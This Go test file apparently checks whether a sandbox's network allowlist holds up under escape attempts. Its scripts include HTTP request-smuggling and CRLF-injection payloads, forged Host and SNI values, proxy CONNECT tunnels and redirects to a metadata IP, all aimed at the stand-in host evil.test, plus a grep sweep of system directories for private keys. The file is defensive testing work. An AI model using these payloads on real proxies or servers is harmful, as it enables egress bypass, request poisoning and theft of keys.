//go:build linux

package escape

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"

	"github.com/bailey-sandbox/bailey/test/machine"
)

// both sends raw requests to an allowed host, in the clear and inside of TLS, all at the same time.
func both(host string, texts ...string) string {
	var b strings.Builder
	for _, text := range texts {
		fmt.Fprintf(&b, "$PROBE send tcp %[1]s:80 '%[2]s' & $PROBE send tls:%[1]s %[1]s:443 '%[2]s' &\n", host, text)
	}
	return b.String() + "wait\n"
}

func requestAttacks() []netAttack {
	const host = "api.allowed.test"
	works := "$GET http://api.allowed.test/ https://api.allowed.test/ | grep -c WORLD | grep 2 && echo WORKS"
	return []netAttack{
		{id: "nested-proxies", flags: allowing(host, "tunnel:cdn.allowed.test"), won: attacker + `|request CONNECT|Proxy-Connection|X-Forwarded-Host|\[Forwarded|^packet tcp [0-9.]+:3128`, works: works,
			script: both(host, `CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n`, `CONNECT api.allowed.test:443 HTTP/1.1\r\nHost: api.allowed.test:443\r\n\r\n`,
				`GET / HTTP/1.1\r\nHost: api.allowed.test\r\nForwarded: host=evil.test\r\nX-Forwarded-Host: evil.test\r\nProxy-Connection: keep-alive\r\nConnection: close\r\n\r\n`) +
				"$PROBE send tcp api.allowed.test:3128 'CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n'; $GET -x http://api.allowed.test:80 https://evil.test/; $GET -x http://api.allowed.test:80 http://evil.test/; $GET -p -x https://api.allowed.test:443 http://evil.test/\n" +
				each("$GET -x http://bailey.internal:3128 http://$X/; $GET -x http://bailey.internal:3128 https://$X/; $GET -p -x http://bailey.internal:3128 http://$X:3128/", "evil.test", "66.66.66.66", "[2a06:6666::66]", "1113735746", "evil.test.", "api.allowed.test.evil.test")},
		{id: "forged-host", flags: allowing(host, "cdn.allowed.test"), won: attacker + `|request .*host= |request .*host=cdn`, works: works,
			script: both(host, `GET / HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n`, `GET http://evil.test/ HTTP/1.1\r\nHost: api.allowed.test\r\nConnection: close\r\n\r\n`,
				`GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n`, `GET / HTTP/1.0\r\n\r\n`, `GET / HTTP/1.1\r\nConnection: close\r\n\r\n`, `GET / HTTP/1.1\r\nHost:\r\nConnection: close\r\n\r\n`,
				`GET / HTTP/1.1\r\nHost: cdn.allowed.test\r\nConnection: close\r\n\r\n`, `GET / HTTP/1.1\r\nHost: api.allowed.test\r\nHost: evil.test\r\nConnection: close\r\n\r\n`,
				`GET / HTTP/1.1\r\nHost: evil.test\r\nHost: api.allowed.test\r\nConnection: close\r\n\r\n`, `\r\nGET / HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n`, `GET //evil.test/ HTTP/1.1\r\nHost: evil.test:443\r\nConnection: close\r\n\r\n`,
				`GET / HTTP/1.1\r\nHost: api.allowed.test\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n`,
				`GET / HTTP/1.1\r\nHost: api.allowed.test\r\n\r\nGET / HTTP/1.1\r\nHost: api.allowed.test\r\n\r\nGET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n`) +
				"$GET -H 'Host: evil.test' https://api.allowed.test/; $GET --http2 -H 'Host: evil.test' https://api.allowed.test/; $GET --http2-prior-knowledge -H 'Host: evil.test' http://api.allowed.test/"},
		{id: "redirects", flags: allowing(host), won: `^packet tcp (66|\[2a06|169)|^dns \S+ evil|^near|host=(evil|66|169|127)`, works: works,
			script: "for c in 301 302 303 307 308; do for to in http://evil.test/ https://evil.test/ http://169.254.169.254/ http://127.0.0.1/ http://66.66.66.66/; do $GET -L -d x https://api.allowed.test/redirect/$c?to=$to; $GET -L http://api.allowed.test/redirect/$c?to=https://api.allowed.test/redirect/302?to=$to; done; done"},
		{id: "methods-and-headers-that-reflect-or-inject", flags: allowing(host), won: `request (TRACE|TRACK)|[Ii]njected|headers=[0-9]{6}`, works: works,
			script: both(host, `TRACE / HTTP/1.1\r\nHost: api.allowed.test\r\nConnection: close\r\n\r\n`, `TRACK / HTTP/1.1\r\nHost: api.allowed.test\r\nConnection: close\r\n\r\n`,
				`GET / HTTP/1.1\r\nHost: api.allowed.test\r\nX: a\rInjected: 1\r\nConnection: close\r\n\r\n`, `GET / HTTP/1.1\r\nHost: api.allowed.test\r\nX: a\x00injected\r\nConnection: close\r\n\r\n`,
				`GET / HTTP/1.1\r\nHost: api.allowed.test\r\nX: a\nInjected: 1\r\nConnection: close\r\n\r\n`, `GET /a\rInjected: 1 HTTP/1.1\r\nHost: api.allowed.test\r\nConnection: close\r\n\r\n`) +
				`for n in "tcp api.allowed.test:80" "tls:api.allowed.test api.allowed.test:443"; do $PROBE repeat 50000 $n 'GET / HTTP/1.1\r\nHost: api.allowed.test\r\nConnection: close\r\n' 'X-Many: 0123456789\r\n' '\r\n'
$PROBE repeat 100000 $n 'GET / HTTP/1.1\r\nHost: api.allowed.test\r\nConnection: close\r\nX-Large: ' '0123456789' '\r\n\r\n'; done`},
		{id: "upgrades", flags: allowing(host), won: attacker + `|^upgraded (PRI|GET)`, works: `$PROBE send tcp api.allowed.test:80 'GET /ws HTTP/1.1\r\nHost: api.allowed.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n' 'frame' | grep -a frame && echo WORKS`,
			script: both(host, `GET / HTTP/1.1\r\nHost: api.allowed.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n`) +
				`$PROBE send tcp evil.test:80 'GET /ws HTTP/1.1\r\nHost: evil.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n'; $PROBE send tcp api.allowed.test:80 'GET /ws HTTP/1.1\r\nHost: evil.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n'`},
	}
}

func tlsAttacks() []netAttack {
	works := "$GET https://api.allowed.test/ | grep WORLD && echo WORKS"
	return []netAttack{
		{id: "forged-server-name", flags: allowing("api.allowed.test", "tunnel:cdn.allowed.test"), won: attacker, works: works,
			script: `for n in api cdn; do $PROBE send tls:$n.allowed.test $E:443 'GET / HTTP/1.1\r\nHost: api.allowed.test\r\nConnection: close\r\n\r\n'; $GET --resolve $n.allowed.test:443:$E https://$n.allowed.test/; $GET --connect-to ::$E:443 https://$n.allowed.test/
$PROBE send tls:evil.test $n.allowed.test:443 'GET / HTTP/1.1\r\nHost: api.allowed.test\r\nConnection: close\r\n\r\n'; $PROBE send tls:evil.test,h2 $n.allowed.test:443 'GET / HTTP/1.1\r\nHost: api.allowed.test\r\nConnection: close\r\n\r\n'; done`},
		{id: "fronting", flags: allowing("cdn.allowed.test"), won: `request .*(host=evil|host= |host=api)`, works: "$GET https://cdn.allowed.test/ | grep WORLD && echo WORKS",
			script: both("cdn.allowed.test", `GET / HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n`, `GET / HTTP/1.1\r\nHost: api.allowed.test\r\nConnection: close\r\n\r\n`, `GET https://evil.test/ HTTP/1.1\r\nHost: cdn.allowed.test\r\nConnection: close\r\n\r\n`,
				`GET / HTTP/1.1\r\nHost: cdn.allowed.test\r\nHost: evil.test\r\nConnection: close\r\n\r\n`, `GET / HTTP/1.1\r\n\r\n`, `GET / HTTP/1.1\r\nHost: evil.test:443\r\nConnection: close\r\n\r\n`, `GET / HTTP/1.1\r\nHost : evil.test\r\nHost: cdn.allowed.test\r\nConnection: close\r\n\r\n`) +
				"$GET --http2 -H 'Host: evil.test' https://cdn.allowed.test/; $GET --http1.1 -H 'Host: api.allowed.test' https://cdn.allowed.test/"},
		{id: "bad-certificates-outside", flags: allowing("*.allowed.test"), won: `request .*secret`, works: works,
			script: each("$GET https://$X.allowed.test/secret; $GET --http2 https://$X.allowed.test/secret; NODE_TLS_REJECT_UNAUTHORIZED=0 node -e \"fetch(\\\"https://$X.allowed.test/secret\\\").catch(() => 0)\" 2>/dev/null", "self", "expired", "wrong", "unknown") +
				"$GET --tlsv1.0 --tls-max 1.0 --ciphers DEFAULT@SECLEVEL=0 https://old.allowed.test/secret; $GET https://old.allowed.test/secret"},
	}
}

// framingAttacks hide a request for another host in what two programs could read differently. As a body, the text may
// pass: what counts is whether a server takes it for a request.
func framingAttacks() []netAttack {
	const smuggled = `GET /smuggled HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n`
	head := func(lines string) string { return `POST / HTTP/1.1\r\nHost: api.allowed.test\r\n` + lines + `\r\n` }
	return []netAttack{{id: "request-smuggling", flags: allowing("api.allowed.test"), won: `^request .*(smuggled|host=evil)`, works: "$GET -d x http://api.allowed.test/ https://api.allowed.test/ | grep -c WORLD | grep 2 && echo WORKS",
		script: both("api.allowed.test",
			head(`Content-Length: 0\r\nContent-Length: 70\r\n`)+smuggled, head(`Content-Length: 0\r\nTransfer-Encoding: chunked\r\n`)+`0\r\n\r\n`+smuggled, head(`Transfer-Encoding: chunked\r\nContent-Length: 4\r\n`)+`0\r\n\r\n`+smuggled,
			head(`Transfer-Encoding : chunked\r\n`)+`0\r\n\r\n`+smuggled, head(`Transfer-Encoding: xchunked\r\n`)+`0\r\n\r\n`+smuggled, head(`Transfer-Encoding: chunked, identity\r\n`)+`0\r\n\r\n`+smuggled, head(`Transfer-Encoding:\tchunked\r\n`)+`0\r\n\r\n`+smuggled,
			`POST / HTTP/1.1\nHost: api.allowed.test\nContent-Length: 0\n\n`+smuggled, head(`X: a\r\n Transfer-Encoding: chunked\r\n`)+`0\r\n\r\n`+smuggled, head(`Transfer-Encoding: chunked\r\n`)+`0\n\n`+smuggled,
			head(`Transfer-Encoding: chunked\r\n`)+`0;x=\n\r\n\r\n`+smuggled, head(`Transfer-Encoding: chunked\r\n`)+`0\r\nHost: evil.test\r\n\r\n`+smuggled, head(`Transfer-Encoding: chunked\r\n`)+`1\r\naXX0\r\n\r\n`+smuggled,
			head(`Content-Length: +0\r\n`)+smuggled, head(`Content-Length: 0x0\r\n`)+smuggled, head(`Content-Length: 0, 0\r\n`)+smuggled, head(`Connection: Content-Length\r\nContent-Length: 70\r\n`)+smuggled,
			`GET / HTTP/1.1\r\nHost: api.allowed.test\r\nContent-Length: 0\r\n\r\n`+smuggled, `GET / HTTP/1.1\r\nHost: api.allowed.test\r\nExpect: 100-continue\r\nContent-Length: 1\r\n\r\n`+smuggled,
			`PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n`+smuggled, `GET / HTTP/0.9\r\n\r\n`+smuggled, `GET /\r\n`+smuggled)}}
}

// networkOwnCases change something outside while the sandbox runs.
func networkOwnCases() []attack {
	return []attack{
		{id: "empty-lists", group: "network", own: emptyLists},
		{id: "broken-configuration-while-it-runs", group: "network", own: brokenReload},
		{id: "egress-killed", group: "network", own: egressKilled},
		{id: "stalled-clients", group: "network", own: stalledClients},
		{id: "keys-of-the-authority", group: "network", script: `f=$(find / -name authority.pem 2>/dev/null); for x in $f "$HOME/.local/share/bailey/ca/authority.pem"; do grep -q PRIVATE "$x" 2>/dev/null && echo WON; done
grep -rlsI 'PRIVATE KEY' /etc /tmp /run /var/tmp "$HOME" 2>/dev/null | grep . && echo WON; true`, weaker: `grep -q PRIVATE "$HOME/.local/share/bailey/ca/authority.pem" && echo WON`},
	}
}

// configured runs a sandbox under a configuration of the case's own, and returns what it has reached.
func (tr *trial) configured(n *internet, w *world, p *project, config string) (events []string, started bool) {
	t := tr.t
	dir := filepath.Join(w.dir, "config-"+p.box)
	if err := os.MkdirAll(filepath.Join(dir, "bailey"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "bailey", "config.yaml"), []byte(config), 0o600); err != nil {
		t.Fatal(err)
	}
	own := *w
	own.env = append(own.env[:len(own.env):len(own.env)], "XDG_CONFIG_HOME="+dir)
	n.seen(w, p)
	out, code := own.run(t, p, "run", "--rm", "--name", p.box, "shell", p.dir, "--", "-c", "curl -sS -m5 http://api.allowed.test/; curl -sS -m5 http://66.66.66.66/; getent hosts evil.test; echo STARTED")
	t.Logf("with %q: exit code %d, %s", config, code, out)
	return n.seen(w, p), strings.Contains(out, "STARTED")
}

// emptyLists starts with everything that could be mistaken for "no list, so no limit".
func emptyLists(tr *trial) verdict {
	n := tr.w.internet()
	w := n.near(tr.w)
	p := w.newProject(tr.t, tr.id, "")
	v := verdict{control: "held"}
	if events, _ := tr.configured(n, w, p, "network:\n  allow: [api.allowed.test]\n"); len(events) > 0 {
		v.control = "lost"
	}
	refused := 0
	for _, config := range []string{"network:\n  allow: []\n", "network: {}\n", "network:\n  allow:\n", "network:\n  allow: [\"\"]\n", "# nothing\n", "", "network:\n  default: deny\n", "network:\n  deny: [evil.test]\n", "network: null\n"} {
		events, started := tr.configured(n, w, p, config)
		v.ran = v.ran || started
		if !started {
			refused++
		}
		if len(events) > 0 {
			v.won, v.reason = true, fmt.Sprintf("under %q the world has seen %s", config, events[0])
		}
	}
	if !v.won {
		v.reason = fmt.Sprintf("nothing is reached under nine, of which %d are refused", refused)
	}
	return v
}

// brokenReload puts configurations that cannot be read, and that would allow the attacker, under a running sandbox.
func brokenReload(tr *trial) verdict {
	n, t := tr.w.internet(), tr.t
	w := n.near(tr.w)
	p := w.newProject(t, tr.id, "")
	dir := filepath.Join(w.dir, "config-"+p.box)
	file := filepath.Join(dir, "bailey", "config.yaml")
	write := func(text string) {
		if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
		t.Fatal(err)
	}
	w.env = append(w.env[:len(w.env):len(w.env)], "XDG_CONFIG_HOME="+dir)
	write("network:\n  allow: [api.allowed.test]\n")
	w.start(t, p)
	defer w.remove(t, p)
	v := verdict{control: "held"}
	reload := func() { _, _ = w.run(t, p, "allow", "--sandbox", p.box, "other.allowed.test") }
	reached := func(url string) bool {
		return strings.Contains(w.inside(t, p, "echo RAN; curl -sS -m5 "+url), "WORLD")
	}
	for _, text := range []string{
		"network:\n  allow: [evil.test]\n  alow: []\n", "network:\n  allow: [evil.test]\n  allow: [evil.test]\n", "network:\n  allow: evil.test: yes\n", "network:\n  allow: [evil.test, \"*\"]\n",
		"network:\n  allow: [evil.test, \"*.test\"]\n", "network:\n  allow: [evil.test, \"e*l.test\"]\n", "network:\n  allow: [evil.test, \"\uff41pi.test\"]\n", "network:\n  allow: [evil.test]\n\t\n",
		"network: {allow: [evil.test]\n", "network:\n  allow: [evil.test]\n  protect: everything\n", "network:\n  allow: [evil.test]\n#" + strings.Repeat("x", 11<<20),
		"a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nnetwork:\n  allow: [evil.test]\n"} {
		write(text)
		reload()
		v.ran = true
		if reached("http://evil.test/") {
			v.won, v.reason = true, "evil.test is allowed by "+firstLine(fmt.Sprintf("%.100q", text))
		}
		if !reached("http://api.allowed.test/") {
			v.broken = "the policy before is not in force any more under " + fmt.Sprintf("%.100q", text)
		}
	}
	write("network:\n  allow: [evil.test, api.allowed.test]\n")
	reload()
	if reached("http://evil.test/") {
		v.control = "lost" // the same list, well written, is taken
	}
	return v
}

// egressKilled kills the supervisor under open connections: they end, and nothing goes on by another way.
func egressKilled(tr *trial) verdict {
	n, t := tr.w.internet(), tr.t
	w := n.near(tr.w)
	p := w.newProject(t, tr.id, "")
	w.start(t, p, "--allow", "api.allowed.test", "--allow", "tcp:api.allowed.test:22")
	defer w.remove(t, p)
	v := verdict{control: "held"}
	n.seen(w, p)
	loop := "for i in 1 2 3 4 5 6 7 8; do (trap '' HUP TERM; while :; do curl -sS -m3 http://api.allowed.test/slow; curl -sS -m1 http://66.66.66.66/; done >/dev/null 2>&1) & done; echo RAN"
	w.must(t, p, "exec", "-d", p.box, "sh", "-c", loop+"; sleep 1000")
	reached := func(events []string) bool {
		return strings.Contains(strings.Join(events, "\n"), "request GET host=api.allowed.test /slow")
	}
	var before []string
	v.ran = machine.Poll(w.patience(), func() bool { before = append(before, n.seen(w, p)...); return reached(before) })
	if v.ran {
		v.control = "lost" // as long as somebody judges, they flow
	}
	w.outside(t, p, "kill -9 "+itoa(supervisorOf(w, p)))
	machine.Poll(w.patience(), func() bool { return supervisorOf(w, p) == 0 })
	n.seen(w, p)
	for range 5 { // each look takes as long as a loop inside would need for the next connection
		w.outside(t, p, "sleep 0.2")
		if events := n.seen(w, p); first(regexp.MustCompile(`packet tcp .* (GET|\S)|request|`+attacker), events) != "" {
			v.won, v.reason = true, events[0]
		}
	}
	w.must(t, p, "start", p.box)
	if out := w.inside(t, p, "curl -sS -m5 http://api.allowed.test/; curl -sS -m5 http://66.66.66.66/"); !strings.Contains(out, "WORLD GET api") || strings.Contains(out, "66.66/") {
		v.broken = "after a new start it is not the same policy: " + firstLine(out)
	}
	return v
}

// stalledClients hold what they can, while an ordinary client must be served.
func stalledClients(tr *trial) verdict {
	t := tr.t
	w := tr.w.internet().near(tr.w)
	p := w.newProject(t, tr.id, "")
	w.start(t, p, "--allow", "api.allowed.test")
	defer w.remove(t, p)
	v := verdict{control: "lost"} // there is no wall to leave out: that they are held shows that the attack was made
	const each = 250
	script := fmt.Sprintf(`mkfifo hold; exec 9<>hold; for a in "tcp api.allowed.test:80 G" "tcp api.allowed.test:80 GET_/_HTTP/1.1\r\nHost:" "tcp api.allowed.test:443 \x16\x03\x01" "tls:api.allowed.test api.allowed.test:443 GET_/"; do $PROBE stall %d $a <hold >held.$(ls held.* 2>/dev/null | wc -l) & sleep 0.1; done; wait`, each)
	w.must(t, p, "exec", "-d", p.box, "sh", "-c", w.preamble(p)+script)
	v.ran = machine.Poll(2*w.patience(), func() bool { return strings.Count(w.outside(t, p, "cat held.*"), "HOLDING") == 4 })
	held := 0
	for _, line := range strings.Split(w.outside(t, p, "cat held.*"), "\n") {
		if rest, ok := strings.CutPrefix(line, "HOLDING "); ok {
			held += number(rest)
		}
	}
	if held < 2*each {
		v.control = "held"
	}
	peak := number(status(supervisorOf(w, p))["VmHWM"])
	out := w.inside(t, p, "curl -sS -m10 http://api.allowed.test/ https://api.allowed.test/")
	v.won = strings.Count(out, "WORLD") != 2 || peak > 400<<10
	v.reason = fmt.Sprintf("%d connections are held; the supervisor's peak is %d MiB", held, peak>>10)
	return v
}
